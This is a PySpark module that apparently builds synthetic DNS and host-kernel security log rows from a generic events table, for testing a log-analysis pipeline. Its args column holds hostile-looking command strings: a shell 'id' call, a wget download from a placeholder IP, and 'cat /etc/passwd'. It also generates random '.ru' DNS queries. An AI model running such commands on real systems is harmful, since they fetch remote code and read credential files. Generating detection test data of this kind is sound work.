"""Raw log rows derived from the driver ``events`` table.

The driver tables carry no security logs, so the three raw CSV families (DNS,
deep kernel, standard host) are derived from ``events`` by one fixed mapping.
The same mapping is written in SQL in ``secstream.plans.oracles`` so that the
oracle sees identical inputs. Every derived value is a plain column
expression: the scan is pruned to the six event columns and nothing shuffles.

Fixed values of the mapping (ours, not the reference's):
  source file   click/view, and error with k < 20  -> events-dns.csv
                other errors                       -> events-training.csv
                signup/purchase                    -> events-host.csv
  sus  = event_type = 'error'
  evil = event_type = 'error' AND value >= 50
  root user when k % 10 = 0; shell args when k >= 90, network tool 80..89,
  sensitive path 70..79 (k is the integer in the JSON ``props``).
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

from ..functions.logtype import log_type_from_file

ISO_MICROS = "yyyy-MM-dd'T'HH:mm:ss.SSSSSS'Z'"


def _k() -> Column:
    return F.get_json_object("props", "$.k").cast("int")


def raw_events(events: DataFrame) -> DataFrame:
    """events -> (event_id, source_file, log_type, raw struct of CSV columns)."""
    e = events.select("event_id", "ts", "user_id", "event_type", "value", "props")
    e = e.select(
        "event_id", "user_id", "event_type", "value",
        _k().alias("k"),
        F.date_format("ts", ISO_MICROS).alias("ts_iso"),
        F.round(F.col("value") * 100).cast("bigint").alias("cents"),
    )
    is_err = F.col("event_type") == "error"
    source_file = (
        F.when(F.col("event_type").isin("click", "view") | (is_err & (F.col("k") < 20)), F.lit("events-dns.csv"))
        .when(is_err, F.lit("events-training.csv"))
        .otherwise(F.lit("events-host.csv"))
    )
    e = e.withColumn("source_file", source_file).withColumn("log_type", log_type_from_file(F.col("source_file")))
    dns = F.col("log_type") == "dns"
    kern = F.col("log_type") == "deep_kernel"
    k = F.col("k")
    dns_query = (
        F.when(k >= 90, F.concat(F.substring(F.md5(F.col("event_id").cast("string")), 1, 16), F.lit(".ru")))
        .otherwise(F.concat(F.col("event_type"), F.lit(".svc"), k.cast("string"), F.lit(".example.com")))
    )
    response_code = (
        F.when(k == 0, F.lit(None).cast("double"))
        .when((F.col("value") >= 400) | is_err, F.lit(3.0))
        .otherwise(F.lit(0.0))
    )
    event_name = (
        F.when(F.col("event_type") == "signup", F.lit("execve"))
        .when(F.col("event_type") == "purchase", F.lit("write"))
        .when(k < 40, F.lit("connect"))
        .when(k < 60, F.lit("mmap"))
        .when(k < 80, F.lit("clone"))
        .otherwise(F.lit("ptrace"))
    )
    process_name = (
        F.when(k < 20, F.lit("bash")).when(k < 45, F.lit("python3")).when(k < 70, F.lit("nginx"))
        .when(k < 85, F.lit("sshd")).otherwise(F.lit("curl"))
    )
    args = (
        F.when(k >= 90, F.lit("/bin/bash -c id"))
        .when(k >= 80, F.concat(F.lit("wget http://203.0.113."), k.cast("string"), F.lit("/p")))
        .when(k >= 70, F.lit("cat /etc/passwd"))
        .otherwise(F.concat(F.lit("/usr/bin/app --v "), F.col("cents").cast("string")))
    )

    def only(cond: Column, value: Column, dtype: str) -> Column:
        return F.when(cond, value).otherwise(F.lit(None).cast(dtype))

    host = ~dns
    raw = F.struct(
        only(dns, F.col("ts_iso"), "string").alias("DnsTimestamp"),
        only(dns, F.concat(F.lit("10.0."), F.floor(F.col("user_id") / 256).cast("string"), F.lit("."),
                           (F.col("user_id") % 256).cast("string")), "string").alias("SourceIP"),
        only(dns, F.lit("10.0.0.2"), "string").alias("DestinationIP"),
        only(dns, dns_query, "string").alias("DnsQuery"),
        only(dns, response_code, "double").alias("DnsResponseCode"),
        only(host, F.col("ts_iso"), "string").alias("timestamp"),
        only(host, event_name, "string").alias("eventName"),
        only(host, F.concat(F.lit("host-"), F.col("user_id").cast("string")), "string").alias("hostName"),
        only(host, k.cast("double"), "double").alias("eventId"),
        only(host, F.when(is_err, F.lit(-1.0)).otherwise(F.lit(0.0)), "double").alias("returnValue"),
        only(host, F.col("event_id").cast("double"), "double").alias("processId"),
        only(host, (F.col("user_id") + 1).cast("double"), "double").alias("parentProcessId"),
        only(host, process_name, "string").alias("processName"),
        only(host, F.when(k % 10 == 0, F.lit(0.0)).otherwise((F.col("user_id") + 1000).cast("double")),
             "double").alias("userId"),
        only(kern, F.col("event_id").cast("double"), "double").alias("threadId"),
        only(kern, F.lit(4026531840.0), "double").alias("mountNamespace"),
        only(kern, F.lit("[]"), "string").alias("stackAddresses"),
        only(host, F.lit(2.0), "double").alias("argsNum"),
        only(host, args, "string").alias("args"),
        is_err.cast("int").alias("sus"),
        (is_err & (F.col("value") >= 50)).cast("int").alias("evil"),
    )
    return e.select("event_id", "source_file", "log_type", raw.alias("raw"))
